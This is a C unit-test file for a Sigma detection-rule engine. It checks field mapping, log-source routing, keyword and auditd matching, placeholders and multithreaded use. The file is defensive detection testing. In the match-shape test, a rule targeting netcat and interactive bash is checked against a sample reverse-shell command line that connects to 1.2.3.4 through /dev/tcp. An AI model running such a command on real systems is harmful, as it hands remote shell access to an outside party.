/* Sigma ruleset: field mapping resolution, log source routing and end-to-end matching of
 * small rules against hand-built events. */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "yiwang/error.h"
#include "yiwang/sigma.h"

#include "detect/sigma_rule.h"

static struct yw_ruleset *compiled(const char *text)
{
	struct yw_diags d = YW_DIAGS_INIT;
	struct yw_ruleset *rs = yw_ruleset_new();
	assert_non_null(rs);
	assert_int_equal(yw_ruleset_add_text(rs, text, strlen(text), "t.yml", &d), 0);
	yw_diags_print(&d, stderr);
	assert_int_equal(d.nerrors, 0);
	assert_int_equal(yw_ruleset_compile(rs, &d), 0);
	yw_diags_free(&d);
	return rs;
}

/* Records the titles of matching rules, comma-separated. */
struct hits {
	char buf[512];
	int n;
};

static int on_match(void *ud, const struct yw_rule_info *rule, const struct yw_event *ev)
{
	struct hits *h = ud;
	(void)ev;
	size_t l = strlen(h->buf);
	snprintf(h->buf + l, sizeof(h->buf) - l, "%s%s", l ? "," : "", rule->title);
	h->n++;
	return 0;
}

static const char *run(const struct yw_ruleset *rs, const struct yw_event *ev, struct hits *h)
{
	memset(h, 0, sizeof(*h));
	assert_int_equal(yw_ruleset_match(rs, ev, on_match, h), 0);
	return h->buf;
}

static const struct yw_sigma_item *item(const struct yw_ruleset *rs, size_t doc, size_t sel,
                                        size_t i)
{
	const struct yw_sigma_rule *r = yw_sigma_ruleset_doc(rs, doc);
	assert_non_null(r);
	return &r->det.sels[sel].groups[0].items[i];
}

static void test_mapping_resolution(void **state)
{
	(void)state;
	struct yw_ruleset *rs =
	    compiled("title: pc\n"
	             "logsource: {product: linux, category: process_creation}\n"
	             "detection: {sel: {Image: /bin/sh, Foo: x}, condition: sel}\n"
	             "---\n"
	             "title: audit\n"
	             "logsource: {product: linux, service: auditd}\n"
	             "detection: {sel: {a0: x, type: EXECVE}, condition: sel}\n"
	             "---\n"
	             "title: win\n"
	             "logsource: {product: windows, category: process_creation}\n"
	             "detection: {sel: {Image: x}, condition: sel}\n");
	const struct yw_sigma_item *it = item(rs, 0, 0, 0);
	assert_int_equal(it->ncands, 2);
	assert_string_equal(it->cands[0].name, "process.executable");
	assert_int_equal(it->cands[0].hash, yw_hash("process.executable", 18));
	assert_string_equal(it->cands[1].name, "Image");
	/* unmapped: only the name as written */
	it = item(rs, 0, 0, 1);
	assert_int_equal(it->ncands, 1);
	assert_string_equal(it->cands[0].name, "Foo");
	/* auditd: prefix, then as written */
	it = item(rs, 1, 0, 0);
	assert_int_equal(it->ncands, 2);
	assert_string_equal(it->cands[0].name, "auditd.a0");
	assert_string_equal(it->cands[1].name, "a0");
	/* no entry for windows: as written */
	it = item(rs, 2, 0, 0);
	assert_int_equal(it->ncands, 1);
	assert_string_equal(it->cands[0].name, "Image");
	yw_ruleset_free(rs);
}

static void test_mapping_file(void **state)
{
	(void)state;
	char path[] = "/tmp/yw_sigma_map_XXXXXX";
	int fd = mkstemp(path);
	assert_true(fd >= 0);
	const char *map = "version: 1\n"
	                  "mappings:\n"
	                  "  - logsource: {product: acme, service: web}\n"
	                  "    prefix: 'acme.'\n"
	                  "    fields:\n"
	                  "      Client: [client.ip, source.ip]\n"
	                  "  - logsource: {product: acme}\n"
	                  "    fields: {Client: never.used}\n";
	assert_int_equal(write(fd, map, strlen(map)), (ssize_t)strlen(map));
	close(fd);
	struct yw_diags d = YW_DIAGS_INIT;
	struct yw_ruleset *rs = yw_ruleset_new();
	const char *rule = "title: r\n"
	                   "logsource: {product: ACME, service: web}\n"
	                   "detection: {sel: {Client: 10.0.0.1}, condition: sel}\n";
	assert_int_equal(yw_ruleset_add_text(rs, rule, strlen(rule), "r.yml", &d), 0);
	assert_int_equal(yw_ruleset_load_mapping(rs, path, &d), 0);
	assert_int_equal(d.n, 0);
	assert_int_equal(yw_ruleset_compile(rs, &d), 0);
	const struct yw_sigma_item *it = item(rs, 0, 0, 0);
	assert_int_equal(it->ncands, 4);
	assert_string_equal(it->cands[0].name, "client.ip");
	assert_string_equal(it->cands[1].name, "source.ip");
	assert_string_equal(it->cands[2].name, "acme.Client");
	assert_string_equal(it->cands[3].name, "Client");

	/* the second candidate is used when the first is absent */
	struct yw_event *ev = yw_event_new();
	struct hits h;
	yw_event_set_logsource(ev, "acme", "web", NULL);
	yw_event_set_strz(ev, "source.ip", "10.0.0.1");
	assert_string_equal(run(rs, ev, &h), "r");
	yw_event_free(ev);

	/* a bad mapping file is reported with its line:col and leaves the old one in place */
	const char *badmap = "version: 1\nmappings:\n  - logsource: {product: x}\n    color: red\n";
	fd = open(path, O_WRONLY | O_TRUNC);
	assert_true(fd >= 0);
	assert_int_equal(write(fd, badmap, strlen(badmap)), (ssize_t)strlen(badmap));
	close(fd);
	assert_int_equal(yw_ruleset_load_mapping(rs, path, &d), YW_EPARSE);
	assert_int_equal(d.nerrors, 1);
	assert_int_equal(d.v[0].line, 4);
	assert_int_equal(d.v[0].col, 5);
	unlink(path);
	yw_ruleset_free(rs);
	yw_diags_free(&d);
}

static const char *routing_rules =
    "title: win\n"
    "logsource: {product: windows, category: process_creation}\n"
    "detection: {sel: {CommandLine|contains: evil}, condition: sel}\n"
    "---\n"
    "title: sshd\n"
    "logsource: {product: linux, service: sshd}\n"
    "detection: {kw: [evil], condition: kw}\n"
    "---\n"
    "title: anylinux\n"
    "logsource: {product: linux}\n"
    "detection: {sel: {CommandLine|contains: evil}, condition: sel}\n"
    "---\n"
    "title: auth\n"
    "logsource: {category: authentication}\n"
    "detection: {sel: {CommandLine|contains: evil}, condition: sel}\n";

static void test_routing(void **state)
{
	(void)state;
	struct yw_ruleset *rs = compiled(routing_rules);
	struct yw_event *ev = yw_event_new();
	struct hits h;
	yw_event_set_strz(ev, "CommandLine", "run evil now");
	yw_event_set_strz(ev, "message", "evil");
	/* no log source: every rule is evaluated */
	assert_string_equal(run(rs, ev, &h), "win,sshd,anylinux,auth");
	/* linux/sshd: the windows rule would match but is never evaluated */
	yw_event_set_logsource(ev, "Linux", "sshd", NULL);
	assert_string_equal(run(rs, ev, &h), "sshd,anylinux");
	yw_event_set_logsource(ev, "linux", "sshd", "authentication");
	assert_string_equal(run(rs, ev, &h), "sshd,anylinux,auth");
	yw_event_set_logsource(ev, "windows", NULL, "process_creation");
	assert_string_equal(run(rs, ev, &h), "win");
	yw_event_set_logsource(ev, "macos", NULL, NULL);
	assert_string_equal(run(rs, ev, &h), "");
	yw_event_free(ev);
	yw_ruleset_free(rs);
}

static void test_match_shapes(void **state)
{
	(void)state;
	struct yw_ruleset *rs = compiled("title: and\n"
	                                 "logsource: {product: linux, category: process_creation}\n"
	                                 "detection:\n"
	                                 "    sel:\n"
	                                 "        Image|endswith: /curl\n"
	                                 "        CommandLine|contains: http\n"
	                                 "    filter:\n"
	                                 "        User: root\n"
	                                 "    condition: sel and not filter\n"
	                                 "---\n"
	                                 "title: listofmaps\n"
	                                 "logsource: {product: linux, category: process_creation}\n"
	                                 "detection:\n"
	                                 "    sel:\n"
	                                 "        - Image: /bin/nc\n"
	                                 "        - CommandLine|contains|all: [bash, '-i']\n"
	                                 "    condition: sel\n"
	                                 "---\n"
	                                 "title: oneof\n"
	                                 "logsource: {product: linux}\n"
	                                 "detection:\n"
	                                 "    sel_a: {User: alice}\n"
	                                 "    sel_b: {User: bob}\n"
	                                 "    condition: 1 of sel_*\n"
	                                 "---\n"
	                                 "title: condlist\n"
	                                 "logsource: {product: linux}\n"
	                                 "detection:\n"
	                                 "    a: {User: carol}\n"
	                                 "    b: {Image: /bin/zsh}\n"
	                                 "    condition: [a, b]\n"
	                                 "---\n"
	                                 "title: nullfield\n"
	                                 "logsource: {product: linux, category: process_creation}\n"
	                                 "detection:\n"
	                                 "    sel: {Image: /bin/ls, ParentImage: null}\n"
	                                 "    condition: sel\n");
	struct yw_event *ev = yw_event_new();
	struct hits h;
	yw_event_set_logsource(ev, "linux", NULL, "process_creation");
	yw_event_set_strz(ev, "process.executable", "/usr/bin/curl");
	yw_event_set_strz(ev, "process.command_line", "curl http://x");
	yw_event_set_strz(ev, "user.name", "alice");
	assert_string_equal(run(rs, ev, &h), "and,oneof");
	yw_event_set_strz(ev, "user.name", "root");
	assert_string_equal(run(rs, ev, &h), "");
	yw_event_set_strz(ev, "process.command_line", "bash -i >& /dev/tcp/1.2.3.4/80");
	assert_string_equal(run(rs, ev, &h), "listofmaps");
	yw_event_set_strz(ev, "user.name", "carol");
	yw_event_set_strz(ev, "process.executable", "/bin/zsh");
	yw_event_set_strz(ev, "process.command_line", "zsh");
	assert_string_equal(run(rs, ev, &h), "condlist");
	yw_event_set_strz(ev, "process.executable", "/bin/ls");
	assert_string_equal(run(rs, ev, &h), "condlist,nullfield");
	yw_event_set_strz(ev, "process.parent.executable", "/bin/bash");
	assert_string_equal(run(rs, ev, &h), "condlist");
	yw_event_free(ev);
	yw_ruleset_free(rs);
}

static void test_keywords(void **state)
{
	(void)state;
	struct yw_ruleset *rs = compiled("title: kw\n"
	                                 "logsource: {product: linux, service: sshd}\n"
	                                 "detection:\n"
	                                 "    keywords:\n"
	                                 "        - 'Invalid user'\n"
	                                 "        - 'maximum authentication attempts'\n"
	                                 "    condition: keywords\n"
	                                 "---\n"
	                                 "title: kwall\n"
	                                 "logsource: {product: linux, service: sshd}\n"
	                                 "detection:\n"
	                                 "    keywords:\n"
	                                 "        '|all': ['Accepted', 'root']\n"
	                                 "    condition: keywords\n");
	struct yw_event *ev = yw_event_new();
	struct hits h;
	yw_event_set_logsource(ev, "linux", "sshd", NULL);
	/* on the message field */
	yw_event_set_strz(ev, "message", "Invalid user admin from 1.2.3.4");
	assert_string_equal(run(rs, ev, &h), "kw");
	/* on the raw line when the message does not have it */
	yw_event_set_strz(ev, "message", "Accepted password");
	const char *raw = "Jan 1 sshd[1]: Accepted password for root from 1.2.3.4";
	yw_event_set_raw(ev, raw, strlen(raw));
	assert_string_equal(run(rs, ev, &h), "kwall");
	yw_event_clear(ev);
	yw_event_set_logsource(ev, "linux", "sshd", NULL);
	yw_event_set_strz(ev, "message", "nothing here");
	assert_string_equal(run(rs, ev, &h), "");
	yw_event_free(ev);
	yw_ruleset_free(rs);
}

static void test_auditd_prefix_match(void **state)
{
	(void)state;
	struct yw_ruleset *rs = compiled("title: audit\n"
	                                 "logsource: {product: linux, service: auditd}\n"
	                                 "detection:\n"
	                                 "    sel: {type: EXECVE, a0: chmod, a1|contains: '777'}\n"
	                                 "    condition: sel\n");
	struct yw_event *ev = yw_event_new();
	struct hits h;
	yw_event_set_logsource(ev, "linux", "auditd", NULL);
	yw_event_set_strz(ev, "auditd.type", "EXECVE");
	yw_event_set_strz(ev, "auditd.a0", "chmod");
	yw_event_set_strz(ev, "a1", "0777");
	assert_string_equal(run(rs, ev, &h), "audit");
	yw_event_free(ev);
	yw_ruleset_free(rs);
}

static void test_placeholders(void **state)
{
	(void)state;
	char path[] = "/tmp/yw_sigma_ph_XXXXXX";
	int fd = mkstemp(path);
	assert_true(fd >= 0);
	const char *ph = "placeholders:\n  Admins: [root, 'adm_*']\n  Empty: []\n";
	assert_int_equal(write(fd, ph, strlen(ph)), (ssize_t)strlen(ph));
	close(fd);
	struct yw_diags d = YW_DIAGS_INIT;
	struct yw_ruleset *rs = yw_ruleset_new();
	assert_int_equal(yw_ruleset_load_placeholders(rs, path, &d), 0);
	unlink(path);
	const char *rule = "title: ph\n"
	                   "logsource: {product: linux}\n"
	                   "detection: {sel: {User|expand: '%Admins%'}, condition: sel}\n";
	assert_int_equal(yw_ruleset_add_text(rs, rule, strlen(rule), "r.yml", &d), 0);
	yw_diags_print(&d, stderr);
	assert_int_equal(d.n, 0);
	assert_int_equal(yw_ruleset_compile(rs, &d), 0);
	struct yw_event *ev = yw_event_new();
	struct hits h;
	yw_event_set_strz(ev, "User", "adm_bob");
	assert_string_equal(run(rs, ev, &h), "ph");
	yw_event_set_strz(ev, "User", "bob");
	assert_string_equal(run(rs, ev, &h), "");
	yw_event_free(ev);
	yw_ruleset_free(rs);
	yw_diags_free(&d);
}

static void test_fieldref(void **state)
{
	(void)state;
	struct yw_ruleset *rs =
	    compiled("title: same\n"
	             "logsource: {product: linux, category: process_creation}\n"
	             "detection: {sel: {Image|fieldref: ParentImage}, condition: sel}\n");
	struct yw_event *ev = yw_event_new();
	struct hits h;
	yw_event_set_strz(ev, "process.executable", "/bin/sh");
	yw_event_set_strz(ev, "process.parent.executable", "/bin/sh");
	assert_string_equal(run(rs, ev, &h), "same");
	yw_event_set_strz(ev, "process.parent.executable", "/bin/bash");
	assert_string_equal(run(rs, ev, &h), "");
	yw_event_free(ev);
	yw_ruleset_free(rs);
}

static int stop_at_first(void *ud, const struct yw_rule_info *rule, const struct yw_event *ev)
{
	(void)ev;
	(void)rule;
	(*(int *)ud)++;
	return 7;
}

static void test_callback_stops_and_requires_compile(void **state)
{
	(void)state;
	struct yw_diags d = YW_DIAGS_INIT;
	struct yw_ruleset *rs = yw_ruleset_new();
	assert_int_equal(yw_ruleset_add_text(rs, routing_rules, strlen(routing_rules), "t", &d), 0);
	struct yw_event *ev = yw_event_new();
	yw_event_set_strz(ev, "CommandLine", "evil");
	int calls = 0;
	assert_int_equal(yw_ruleset_match(rs, ev, stop_at_first, &calls), YW_EINVAL);
	assert_int_equal(yw_ruleset_compile(rs, &d), 0);
	assert_int_equal(yw_ruleset_match(rs, ev, stop_at_first, &calls), 7);
	assert_int_equal(calls, 1);
	yw_event_free(ev);
	yw_ruleset_free(rs);
	yw_diags_free(&d);
}

struct thr {
	const struct yw_ruleset *rs;
	int hits;
};

static void *thread_main(void *arg)
{
	struct thr *t = arg;
	struct yw_event *ev = yw_event_new();
	struct hits h;
	for (int i = 0; i < 2000; i++) {
		yw_event_clear(ev);
		yw_event_set_logsource(ev, "linux", "sshd", NULL);
		yw_event_set_strz(ev, "CommandLine", i % 2 ? "evil" : "good");
		memset(&h, 0, sizeof(h));
		yw_ruleset_match(t->rs, ev, on_match, &h);
		t->hits += h.n;
	}
	yw_event_free(ev);
	return NULL;
}

static void test_threads(void **state)
{
	(void)state;
	struct yw_ruleset *rs = compiled(routing_rules);
	struct thr t[4];
	pthread_t th[4];
	for (int i = 0; i < 4; i++) {
		t[i] = (struct thr){rs, 0};
		assert_int_equal(pthread_create(&th[i], NULL, thread_main, &t[i]), 0);
	}
	for (int i = 0; i < 4; i++) {
		pthread_join(th[i], NULL);
		assert_int_equal(t[i].hits, 1000); /* anylinux on every odd event */
	}
	yw_ruleset_free(rs);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_mapping_resolution),
	    cmocka_unit_test(test_mapping_file),
	    cmocka_unit_test(test_routing),
	    cmocka_unit_test(test_match_shapes),
	    cmocka_unit_test(test_keywords),
	    cmocka_unit_test(test_auditd_prefix_match),
	    cmocka_unit_test(test_placeholders),
	    cmocka_unit_test(test_fieldref),
	    cmocka_unit_test(test_callback_stops_and_requires_compile),
	    cmocka_unit_test(test_threads),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
